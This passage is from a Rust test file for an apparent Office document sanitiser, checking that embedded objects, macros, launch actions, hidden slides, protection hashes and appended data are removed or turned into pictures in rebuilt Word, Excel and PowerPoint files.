        r#"<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="1" y="2"/><a:ext cx="3" cy="4"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><mc:AlternateContent><mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v"><p:oleObj name="x" r:id="o" progId="Package"><p:embed/></p:oleObj></mc:Choice><mc:Fallback><p:oleObj name="x" r:id="o" progId="Package"><p:embed/>{picture}</p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>"#
    );
    let (done, slide) = slide(&graphic, |package| {
        package
            .relation("ppt/slides/slide1.xml", "o", "oleObject", "../embeddings/o.bin")
            .relation("ppt/slides/slide1.xml", "i", "image", "../media/image1.png")
            .bytes("ppt/embeddings/o.bin", b"MZ")
            .bytes("ppt/media/image1.png", &png())
    });
    assert!(slide.contains("<p:pic>") && !slide.contains("graphicFrame") && !slide.contains("oleObj"), "{slide}");
    assert!(slide.contains(r#"<p:cNvPr id="4" name="o"/>"#) && !slide.contains(r#"id="0""#), "{slide}");
    assert!(done.has(Reason::EmbeddedObject));
}

#[test]
fn of_an_object_in_a_sheet_the_picture_is_put_into_the_drawing() {
    let object = r#"<sheetData/><drawing r:id="d"/><oleObjects><mc:AlternateContent><mc:Choice xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" Requires="x14"><oleObject progId="Package" shapeId="1025" r:id="o"><objectPr defaultSize="0" r:id="i"><anchor moveWithCells="1"><from><xdr:col xmlns:xdr="x">1</xdr:col><xdr:colOff xmlns:xdr="x">95250</xdr:colOff><xdr:row xmlns:xdr="x">2</xdr:row><xdr:rowOff xmlns:xdr="x">0</xdr:rowOff></from><to><xdr:col xmlns:xdr="x">3</xdr:col><xdr:row xmlns:xdr="x">9</xdr:row></to></anchor></objectPr></oleObject></mc:Choice><mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="o"/></mc:Fallback></mc:AlternateContent></oleObjects>"#;
    let drawing =
        r#"<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"></xdr:wsDr>"#;
    let package = Package::workbook(object)
        .relation("xl/worksheets/sheet1.xml", "d", "drawing", "../drawings/drawing1.xml")
        .relation("xl/worksheets/sheet1.xml", "o", "package", "../embeddings/a.docx")
        .relation("xl/worksheets/sheet1.xml", "i", "image", "../media/image1.png")
        .part("xl/drawings/drawing1.xml", drawing)
        .bytes("xl/embeddings/a.docx", b"PK embedded")
        .bytes("xl/media/image1.png", &png());
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let drawing = parts.text("drawings/drawing");
    assert!(drawing.contains("<xdr:pic>") && drawing.contains("<xdr:colOff>95250</xdr:colOff>"), "{drawing}");
    assert!(!parts.text("worksheets/").contains("oleObject"));
    assert!(done.has(Reason::EmbeddedObject));
}

/// Office 2007 keeps the picture of an object in a drawing of VML beside the slide.
#[test]
fn of_an_object_of_2007_on_a_slide_the_picture_takes_its_place() {
    let graphic = r#"<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="11" y="22"/><a:ext cx="33" cy="44"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj spid="_x0000_s1026" name="x" r:id="o" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"#;
    let vml = r##"<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape id="_x0000_s1025" style="x"><v:imagedata o:relid="rId2"/></v:shape><v:shape id="_x0000_s1026" style="x"><v:imagedata o:relid="rId1" o:title=""/></v:shape></xml>"##;
    let (done, slide) = slide(graphic, |package| {
        package
            .relation("ppt/slides/slide1.xml", "o", "oleObject", "../embeddings/o.bin")
            .relation("ppt/slides/slide1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
            .relation("ppt/drawings/vmlDrawing1.vml", "rId1", "image", "../media/image1.png")
            .part("ppt/drawings/vmlDrawing1.vml", vml)
            .bytes("ppt/embeddings/o.bin", b"MZ")
            .bytes("ppt/media/image1.png", &png())
    });
    assert!(slide.contains("<p:pic>") && !slide.contains("graphicFrame") && slide.contains("r:embed"), "{slide}");
    assert!(slide.contains(r#"<a:off x="11" y="22"/><a:ext cx="33" cy="44"/>"#), "{slide}");
    assert!(slide.contains(r#"<p:cNvPr id="4" name="o"/>"#), "{slide}");
    assert!(done.has(Reason::EmbeddedObject));
}

/// A sheet with form controls, which Excel describes in a drawing of VML.
#[test]
fn form_controls_become_shapes_with_their_text() {
    let control = |kind: &str, text: &str, more: &str| {
        format!(
            r#"<v:shape id="_x0000_s{}" type="t"><v:textbox><div><font face="x">{text}</font><br></div></v:textbox><x:ClientData ObjectType="{kind}"><x:Anchor>
    4, 6, 6, 1, 8, 16, 7, 0</x:Anchor>{more}</x:ClientData></v:shape>"#,
            text.len()
        )
    };
    let vml = format!(
        r#"<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">{}{}{}{}{}</xml>"#,
        control("Checkbox", "同意&amp;する", "<x:Checked>1</x:Checked>"),
        control("Checkbox", "しない", ""),
        control("Radio", "男 性", "<x:Checked>1</x:Checked>"),
        control("Button", "送信", "<x:FmlaMacro>[0]!evil</x:FmlaMacro><x:PrintObject>False</x:PrintObject>"),
        control("Spin", "", ""),
    );
    let drawing =
        r#"<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"></xdr:wsDr>"#;
    let mut package = Package::workbook(r#"<sheetData/><drawing r:id="d"/><legacyDrawing r:id="v"/>"#)
        .relation("xl/worksheets/sheet1.xml", "d", "drawing", "../drawings/drawing1.xml")
        .relation("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
        .part("xl/drawings/drawing1.xml", drawing)
        .part("xl/drawings/vmlDrawing1.vml", &vml);
    for number in 1..=5 {
        let target = format!("../ctrlProps/ctrlProp{number}.xml");
        package = package.relation("xl/worksheets/sheet1.xml", &format!("c{number}"), "ctrlProp", &target);
    }
    let (done, parts) = rebuilt(&package, "a.xlsm");
    let drawing = parts.text("drawings/drawing");
    for text in ["☑ 同意&amp;する", "☐ しない", "◉ 男 性", "送信"] {
        assert!(drawing.contains(&format!("<a:t>{text}</a:t>")), "{text}: {drawing}");
    }
    assert!(drawing.contains("<xdr:col>4</xdr:col><xdr:colOff>57150</xdr:colOff>"), "{drawing}");
    assert_eq!(drawing.matches(r#"fPrintsWithSheet="0""#).count(), 1, "{drawing}");
    assert!(!parts.has("evil") && done.has(Reason::Macros));
    let count = |reason: Reason| {
        done.report.findings.iter().filter(|finding| finding.reason == reason).map(|finding| finding.count).sum::<u32>()
    };
    assert_eq!((count(Reason::ControlsDrawn), count(Reason::Controls)), (4, 1));
}

/// A drawing of VML with these shapes: their sort, style, text and what else is said of them.
fn vml(shapes: &[(&str, &str, &str, &str)]) -> String {
    let shape = |(number, (kind, style, text, more)): (usize, &(&str, &str, &str, &str))| {
        format!(
            r#"<v:shape id="_x0000_s{number}" type="t" style="position:absolute;{style}"><v:textbox><div>{text}</div></v:textbox><x:ClientData ObjectType="{kind}"><x:Anchor>1, 0, 2, 0, 3, 0, 4, 0</x:Anchor>{more}</x:ClientData></v:shape>"#
        )
    };
    let shapes: String = shapes.iter().enumerate().map(shape).collect();
    format!(
        r#"<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel">{shapes}</xml>"#
    )
}

fn count(done: &Sanitised, reason: Reason) -> u32 {
    done.report.findings.iter().filter(|finding| finding.reason == reason).map(|finding| finding.count).sum()
}

/// Excel 2007 has no part for a control, and where a sheet has nothing else that is drawn, no drawing but the one of VML.
#[test]
fn controls_of_2007_become_shapes_and_hidden_ones_stay_hidden() {
    let shapes = vml(&[
        ("Checkbox", "", "同意する", "<x:Checked>1</x:Checked>"),
        ("Checkbox", "Visibility : Hidden", "見えない", ""),
        ("Note", "visibility:hidden", "メモ", ""),
        ("Scroll", "", "", ""),
    ]);
    let package = Package::workbook(r#"<sheetData/><pageMargins left="1" right="1" top="1" bottom="1" header="1" footer="1"/><legacyDrawing r:id="v"/>"#)
        .relation("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
        .part("xl/drawings/vmlDrawing1.vml", &shapes);
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let drawing = parts.text("drawings/drawing");
    assert!(drawing.contains("<a:t>☑ 同意する</a:t>") && drawing.matches("<xdr:sp>").count() == 1, "{drawing}");
    let sheet = parts.text("worksheets/sheet1");
    assert!(sheet.contains(r#"footer="1"/><drawing r:id="rId1"/></worksheet>"#), "{sheet}");
    assert_eq!((count(&done, Reason::ControlsDrawn), count(&done, Reason::Controls)), (1, 2));
    assert!(!parts.has("見えない"));
}

/// What is chosen stands in the cells that the list takes its entries from.
#[test]
fn lists_show_what_is_chosen() {
    let shapes = vml(&[
        ("Drop", "", "", "<x:FmlaRange>'一 覧'!$B$2:$B$4</x:FmlaRange><x:Sel>2</x:Sel>"),
        ("Drop", "", "", "<x:FmlaRange>$A$1:$A$2</x:FmlaRange><x:Sel>1</x:Sel>"),
        ("List", "", "", "<x:FmlaRange>$A$1:$A$3</x:FmlaRange><x:Sel>0</x:Sel><x:MultiSel>1, 3</x:MultiSel>"),
        ("Drop", "", "", "<x:FmlaRange>名前</x:FmlaRange><x:Sel>1</x:Sel>"),
        ("Drop", "", "", "<x:FmlaRange>List</x:FmlaRange><x:Sel>2</x:Sel>"),
        ("Drop", "", "", "<x:FmlaRange>各々</x:FmlaRange><x:Sel>1</x:Sel>"),
        ("Drop", "", "", "<x:FmlaRange>$A$1:$A$2</x:FmlaRange><x:Sel>3</x:Sel>"),
        ("Drop", "", "", "<x:FmlaRange>$A$1:$A$2</x:FmlaRange><x:Sel>0</x:Sel>"),
    ]);
    let book = format!(
        r#"<workbook {X} {R}><sheets><sheet name="表" sheetId="1" r:id="s1"/><sheet name="一 覧" sheetId="2" r:id="s2"/></sheets><definedNames><definedName name="LIST">'一 覧'!$B$2:$B$4</definedName><definedName name="各々" localSheetId="1">'一 覧'!$B$2:$B$4</definedName></definedNames></workbook>"#,
        X = package_kit::X
    );
    let list = format!(
        r#"<worksheet {X}><sheetData><row r="2"><c r="B2" t="s"><v>0</v></c></row><row r="3"><c r="B3" t="s"><v>1</v></c></row></sheetData></worksheet>"#,
        X = package_kit::X
    );
    let strings = format!(
        r#"<sst {X}><si><t>東京</t></si><si><r><t>神奈</t></r><r><t>川 &amp; 県</t></r><rPh sb="0" eb="1"><t>カナ</t></rPh></si></sst>"#,
        X = package_kit::X
    );
    let cells = r#"<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>甲</t></is></c></row><row r="2"><c r="A2"><v>12.5</v></c></row><row r="3"><c r="A3" t="str"><f>A1</f><v>乙</v></c></row></sheetData><drawing r:id="d"/><legacyDrawing r:id="v"/>"#;
    // A drawing that has no end of its own.
    let drawing = r#"<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>"#;
    let package = Package::workbook(cells)
        .part("xl/workbook.xml", &book)
        .relation("xl/workbook.xml", "s2", "worksheet", "worksheets/sheet2.xml")
        .part("xl/worksheets/sheet2.xml", &list)
        .relation("xl/workbook.xml", "ss", "sharedStrings", "sharedStrings.xml")
        .part("xl/sharedStrings.xml", &strings)
        .relation("xl/worksheets/sheet1.xml", "d", "drawing", "../drawings/drawing1.xml")
        .relation("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
        .part("xl/drawings/drawing1.xml", drawing)
        .part("xl/drawings/vmlDrawing1.vml", &shapes);
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let drawing = parts.text("drawings/drawing");
    let texts: Vec<&str> =
        drawing.split("<a:t").skip(1).filter_map(|rest| rest.split_once('>')?.1.split('<').next()).collect();
    assert_eq!(
        texts,
        ["神奈川 &amp; 県 ▾", "甲 ▾", "甲", "乙", " ▾", "神奈川 &amp; 県 ▾", " ▾", " ▾", " ▾"],
        "{drawing}"
    );
    // Three say that something is chosen that is not to be found; of the last, nothing is.
    assert_eq!((count(&done, Reason::ControlsDrawn), count(&done, Reason::Controls)), (5, 3));
}

/// Beside a drawing of what is on the sheet there is one for its headers.
#[test]
fn pictures_of_headers_cross() {
    let shape = |id: &str, size: &str| {
        format!(
            r#"<v:shape id="{id}" style="position:absolute;{size}"><v:imagedata o:relid="p" o:title="ロゴ"/></v:shape>"#
        )
    };
    let headers = format!(
        r#"<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">{}{}{}{}</xml>"#,
        shape("LH", "width:113.25pt;height:0.5in"),
        // The width of A3 paper.
        shape("RFFIRST", "width:1190.6pt;height:20pt"),
        shape("CH", "width:10pt"),
        shape("_x0000_s1025", "width:10pt;height:20pt"),
    );
    let content = r#"<sheetData/><headerFooter><oddHeader>&amp;L&amp;G</oddHeader></headerFooter><legacyDrawing r:id="v"/><legacyDrawingHF r:id="h"/>"#;
    let package = Package::workbook(content)
        .relation("xl/worksheets/sheet1.xml", "h", "vmlDrawing", "../drawings/vmlDrawing2.vml")
        .relation("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
        .part("xl/drawings/vmlDrawing1.vml", &vml(&[("Checkbox", "", "同意", "")]))
        .part("xl/drawings/vmlDrawing2.vml", &headers)
        .relation("xl/drawings/vmlDrawing2.vml", "p", "image", "../media/image1.png")
        .bytes("xl/media/image1.png", &png());
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let drawing = parts.text("drawings/vmlDrawing");
    assert_eq!(drawing.matches("<v:shape ").count(), 2, "{drawing}");
    assert!(drawing.contains("id=\"LH\"") && drawing.contains("width:113.25pt;height:36.00pt"), "{drawing}");
    assert!(drawing.contains("id=\"RFFIRST\"") && !drawing.contains("ロゴ"), "{drawing}");
    let sheet = parts.text("worksheets/sheet1");
    assert!(sheet.contains("<legacyDrawingHF r:id=\"rId2\"/></worksheet>") && sheet.contains("<drawing "), "{sheet}");
    assert!(sheet.contains("&amp;L&amp;G"), "{sheet}");
    assert_eq!(count(&done, Reason::HeaderPictures), 1, "one has no height");
    assert!(parts.names().iter().any(|name| name.contains("media/image1.png")));
    assert_eq!((count(&done, Reason::ControlsDrawn), count(&done, Reason::Controls)), (1, 0));
}

/// Some notes are seen all the time, and all have a place: only the drawing of VML says so.
#[test]
fn notes_that_are_seen_stay_so_and_where_they_were() {
    let notes = format!(
        r#"<comments {X}><authors><author>a</author></authors><commentList><comment ref="B2" authorId="0" shapeId="7"><text><t>見える</t></text></comment><comment ref="C3" authorId="0" shapeId="0"><text><t>隠れた</t></text></comment></commentList></comments>"#,
        X = package_kit::X
    );
    let shapes = vml(&[
        ("Note", "visibility:visible", "", "<x:Row>1</x:Row><x:Column>1</x:Column><x:Visible/>"),
        ("Note", "visibility:hidden", "", "<x:Row>2</x:Row><x:Column>2</x:Column>"),
    ]);
    let package = Package::workbook(r#"<sheetData/><legacyDrawing r:id="v"/>"#)
        .relation("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
        .relation("xl/worksheets/sheet1.xml", "c", "comments", "../comments1.xml")
        .part("xl/comments1.xml", &notes)
        .part("xl/drawings/vmlDrawing1.vml", &shapes);
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let boxes = parts.text("vmlDrawing1.vml");
    let seen =
        |row: &str| boxes.split("</v:shape>").find(|shape| shape.contains(row)).unwrap().contains("<x:Visible/>");
    assert!(seen("<x:Row>1</x:Row>") && !seen("<x:Row>2</x:Row>"), "{boxes}");
    assert_eq!(boxes.matches("<x:Anchor>1, 0, 2, 0, 3, 0, 4, 0</x:Anchor>").count(), 2, "{boxes}");
    // Neither is said where the file of Excel has no place for it.
    let comments = parts.text("comments1.xml");
    assert!(
        !comments.contains("shapeId") && !comments.contains("commentPr") && comments.contains("見える"),
        "{comments}"
    );
    assert_eq!((count(&done, Reason::ControlsDrawn), count(&done, Reason::Controls)), (0, 0));
}

/// A drawing that is broken takes with it what was added to it, and that is not told as shown.
#[test]
fn controls_in_a_broken_drawing_are_not_told_as_shown() {
    let package = Package::workbook(r#"<sheetData/><drawing r:id="d"/><legacyDrawing r:id="v"/>"#)
        .relation("xl/worksheets/sheet1.xml", "d", "drawing", "../drawings/drawing1.xml")
        .relation("xl/worksheets/sheet1.xml", "v", "vmlDrawing", "../drawings/vmlDrawing1.vml")
        .part("xl/drawings/drawing1.xml", "<xdr:wsDr")
        .part("xl/drawings/vmlDrawing1.vml", &vml(&[("Checkbox", "", "a", "")]));
    let (done, parts) = rebuilt(&package, "a.xlsx");
    assert!(!parts.names().iter().any(|name| name.contains("drawing")), "{:?}", parts.names());
    assert_eq!((count(&done, Reason::ControlsDrawn), count(&done, Reason::Controls)), (0, 1));
}

/// Without anything to give way to, the place that only Word knows is the only one.
#[test]
fn places_in_per_cent_stay_where_there_is_no_other() {
    let position = |axis: &str, fallback: &str| {
        format!(
            r#"<wp:position{axis} relativeFrom="page"><mc:AlternateContent><mc:Choice xmlns:wp14="http://schemas.microsoft.com/office/word/2010/wordprocessingDrawing" Requires="wp14"><wp14:pctPos{axis}Offset>5000</wp14:pctPos{axis}Offset></mc:Choice>{fallback}</mc:AlternateContent></wp:position{axis}>"#
        )
    };
    let (_, text) = body(&format!(
        r#"<w:p><w:r><w:drawing><wp:anchor xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" simplePos="0" relativeHeight="1" behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1"><wp:simplePos x="0" y="0"/>{}{}<wp:extent cx="9" cy="9"/><wp:wrapNone/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/lockedCanvas"><lc:lockedCanvas xmlns:lc="http://schemas.openxmlformats.org/drawingml/2006/lockedCanvas"><a:nvGrpSpPr><a:cNvPr id="1" name="x"/><a:cNvGrpSpPr/></a:nvGrpSpPr><a:grpSpPr/></lc:lockedCanvas></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r></w:p>"#,
        position("H", ""),
        position("V", "<mc:Fallback><wp:posOffset>914400</wp:posOffset></mc:Fallback>"),
    ));
    assert!(text.contains("<wp14:pctPosHOffset>5000</wp14:pctPosHOffset>"), "{text}");
    assert!(text.contains("<wp:posOffset>914400</wp:posOffset>") && !text.contains("pctPosV"), "{text}");
}

#[test]
fn places_in_per_cent_give_way_to_those_that_every_program_reads() {
    let position = |axis: &str| {
        format!(
            r#"<mc:AlternateContent><mc:Choice xmlns:wp14="http://schemas.microsoft.com/office/word/2010/wordprocessingDrawing" Requires="wp14"><wp:position{axis} relativeFrom="page"><wp14:pctPos{axis}Offset>5000</wp14:pctPos{axis}Offset></wp:position{axis}></mc:Choice><mc:Fallback><wp:position{axis} relativeFrom="page"><wp:posOffset>914400</wp:posOffset></wp:position{axis}></mc:Fallback></mc:AlternateContent>"#
        )
    };
    let (_, text) = body(&format!(
        r#"<w:p><w:r><w:drawing><wp:anchor xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" simplePos="0" relativeHeight="1" behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1"><wp:simplePos x="0" y="0"/>{}{}<wp:extent cx="9" cy="9"/><wp:wrapNone/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/lockedCanvas"><lc:lockedCanvas xmlns:lc="http://schemas.openxmlformats.org/drawingml/2006/lockedCanvas"><a:nvGrpSpPr><a:cNvPr id="1" name="x"/><a:cNvGrpSpPr/></a:nvGrpSpPr><a:grpSpPr/></lc:lockedCanvas></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r></w:p>"#,
        position("H"),
        position("V"),
    ));
    assert_eq!(text.matches("<wp:posOffset>914400</wp:posOffset>").count(), 2, "{text}");
    assert!(!text.contains("pctPos"), "{text}");
}

#[test]
fn what_programs_note_for_themselves_is_not_told() {
    let book = format!(
        r#"<workbook {X} {R} {MC}><mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="C:\Users\taro\"/></mc:Choice></mc:AlternateContent><sheets><sheet name="表" sheetId="1" r:id="s1"/></sheets></workbook>"#,
        X = package_kit::X
    );
    let (done, parts) = rebuilt(&Package::workbook("<sheetData/>").part("xl/workbook.xml", &book), "a.xlsx");
    assert!(!parts.has("taro") && !done.has(Reason::UnknownContent), "{:?}", done.report.findings);
}

#[test]
fn hidden_slides_and_pictures_of_headers_are_told() {
    let (done, slide) = slide("", |package| {
        let shown = package.part_text("ppt/slides/slide1.xml").replacen("<p:sld ", r#"<p:sld show="0" "#, 1);
        package.part("ppt/slides/slide1.xml", &shown)
    });
    assert!(slide.contains(r#"show="0""#) && done.has(Reason::HiddenSlide), "{slide}");
    let header =
        r#"<sheetData/><headerFooter><oddHeader>&amp;L&amp;G</oddHeader></headerFooter><legacyDrawingHF r:id="h"/>"#;
    let (done, parts) = rebuilt(&Package::workbook(header), "a.xlsx");
    assert!(!parts.text("worksheets/").contains("legacyDrawingHF") && done.has(Reason::HeaderPictures));
}

#[test]
fn a_document_stays_protected_without_its_password() {
    let settings = format!(
        r#"<w:settings {W}><w:documentProtection w:edit="forms" w:enforcement="1" w:cryptProviderType="rsaAES" w:cryptAlgorithmClass="hash" w:cryptAlgorithmType="typeAny" w:cryptAlgorithmSid="14" w:cryptSpinCount="100000" w:hash="SECRETHASH" w:salt="SALTSALT"/></w:settings>"#
    );
    let package = Package::document("<w:p/>")
        .relation("word/document.xml", "s", "settings", "settings.xml")
        .part("word/settings.xml", &settings);
    let (done, parts) = rebuilt(&package, "a.docx");
    let settings = parts.text("settings.xml");
    assert!(settings.contains(r#"<w:documentProtection w:edit="forms" w:enforcement="1"/>"#), "{settings}");
    assert!(done.has(Reason::ProtectionPassword));
}

#[test]
fn a_click_that_runs_something_is_no_click_any_more() {
    let shape = |click: &str| {
        format!(
            r#"<p:sp><p:nvSpPr><p:cNvPr id="2" name="s">{click}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"#
        )
    };
    let (_, next) = slide(&shape(r#"<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>"#), |p| p);
    assert!(next.contains("hlinkClick"), "{next}");
    for (action, reason) in [("macro?name=x", Reason::Macros), ("program", Reason::LaunchAction)] {
        let (done, slide) = slide(&shape(&format!(r#"<a:hlinkClick r:id="" action="ppaction://{action}"/>"#)), |p| p);
        assert!(!slide.contains("hlinkClick") && slide.contains("<p:sp>"), "{slide}");
        assert!(done.has(reason), "{action}");
    }
}

#[test]
fn pictures_are_made_anew_and_broken_ones_are_told() {
    let inline = |id: &str| {
        format!(
            r#"<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{id}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#
        )
    };
    let mut surplus = png();
    surplus.extend_from_slice(b"PK\x03\x04 hidden");
    let package = Package::document(&format!("{}{}{}", inline("a"), inline("b"), inline("none")))
        .relation("word/document.xml", "a", "image", "media/a.png")
        .relation("word/document.xml", "b", "image", "media/b.wmf")
        .bytes("word/media/a.png", &surplus)
        .bytes("word/media/b.wmf", b"no picture at all");
    let (done, parts) = rebuilt(&package, "a.docx");
    assert_eq!(done.place(Reason::PictureUndecodable).as_deref(), Some("b.wmf"));
    assert!(!parts.has("hidden"));
    let media: Vec<&Vec<u8>> =
        parts.0.iter().filter(|(name, _)| name.contains("media/")).map(|(_, bytes)| bytes).collect();
    assert_eq!(media.len(), 2, "{:?}", parts.names());
    assert!(media.iter().all(|bytes| bytes.starts_with(b"\x89PNG")));
    assert_eq!(parts.text("document.xml").matches("r:embed").count(), 2);
}

/// A drawing of Windows that writes 申, 請書 and Form 7.
fn emf() -> Vec<u8> {
    let text = |words: &str| {
        let units: Vec<u16> = words.encode_utf16().collect();
        let mut data = vec![0, 0, 99, 99, 1, 0, 0, 10, 10, u32::try_from(units.len()).unwrap(), 76, 0, 0, 0, 99, 99, 0];
        data.extend(units.chunks(2).map(|two| u32::from(two[0]) | u32::from(two.get(1).copied().unwrap_or(0)) << 16));
        (84_u32, data)
    };
    let mut emf: Vec<u32> = vec![1, 100, 0, 0, 99, 99, 0, 0, 2_500, 2_500, 0x464D_4520, 0x1_0000, 0, 0, 0, 0, 0, 0];
    emf.extend([1_000, 1_000, 250, 250, 0, 0, 0]);
    for (kind, data) in [text("申"), text("請書"), text("Form 7"), (14, vec![0, 16, 20])] {
        emf.extend([kind, u32::try_from(data.len() * 4 + 8).unwrap()]);
        emf.extend(data);
    }
    emf.into_iter().flat_map(u32::to_le_bytes).collect()
}

/// A metafile becomes pixels, which no search reads.
#[test]
fn the_words_of_a_drawing_are_what_its_picture_says() {
    let emf = emf();
    let inline = |description: &str| {
        format!(
            r#"<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p" {description}/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="e"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#
        )
    };
    let package = Package::document(&format!("{}{}", inline(""), inline(r#"descr="図1""#)))
        .relation("word/document.xml", "e", "image", "media/a.emf")
        .bytes("word/media/a.emf", &emf);
    let (done, parts) = rebuilt(&package, "a.docx");
    let text = parts.text("document.xml");
    assert!(done.has(Reason::MetafileDrawn), "{:?}", done.report.findings);
    assert_eq!(text.matches(r#"descr="申請書 Form 7""#).count(), 3, "{text}");
    assert_eq!(text.matches(r#"descr="図1""#).count(), 1, "what the author said stays: {text}");
}

/// Parts that are read before pictures are drawn, and pictures in VML, say the words too.
#[test]
fn words_of_drawings_are_said_in_sheets_and_in_vml() {
    let anchor = r#"<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="図"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed="e"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>"#;
    let package = Package::workbook(r#"<sheetData/><drawing r:id="d"/>"#)
        .relation("xl/worksheets/sheet1.xml", "d", "drawing", "../drawings/drawing1.xml")
        .part("xl/drawings/drawing1.xml", anchor)
        .relation("xl/drawings/drawing1.xml", "e", "image", "../media/a.emf")
        .bytes("xl/media/a.emf", &emf());
    let (done, parts) = rebuilt(&package, "a.xlsx");
    let drawing = parts.text("drawings/drawing");
    assert!(drawing.contains(r#"descr="申請書 Form 7""#) && done.has(Reason::MetafileDrawn), "{drawing}");
    let picture = r#"<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata r:id="e"/></v:shape></w:pict></w:r></w:p>"#;
    let package = Package::document(picture)
        .relation("word/document.xml", "e", "image", "media/a.emf")
        .bytes("word/media/a.emf", &emf());
    let (_, parts) = rebuilt(&package, "a.docx");
    let text = parts.text("document.xml");
    assert!(text.contains(r#"alt="申請書 Form 7""#), "{text}");
}

#[test]
fn a_picture_that_is_there_twice_is_written_once() {
    let picture = |id: &str| {
        format!(
            r#"<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:1pt;height:1pt"><v:imagedata r:id="{id}"/></v:shape></w:pict></w:r></w:p>"#
        )
    };
    let package = Package::document(&["a", "b", "c"].map(picture).concat())
        .relation("word/document.xml", "a", "image", "media/image1.png")
        .relation("word/document.xml", "b", "image", "media/image2.png")
        .relation("word/document.xml", "c", "image", "media/image3.png")
        .bytes("word/media/image1.png", &png())
        .bytes("word/media/image2.png", &png())
        .bytes("word/media/image3.png", &rooms::fixture("colours.png"));
    let (_, parts) = rebuilt(&package, "a.docx");
    let media = parts.names().into_iter().filter(|name| name.contains("media/")).count();
    let text = parts.text("document.xml");
    assert_eq!((media, text.matches("<v:imagedata").count()), (2, 3), "{:?}", parts.names());
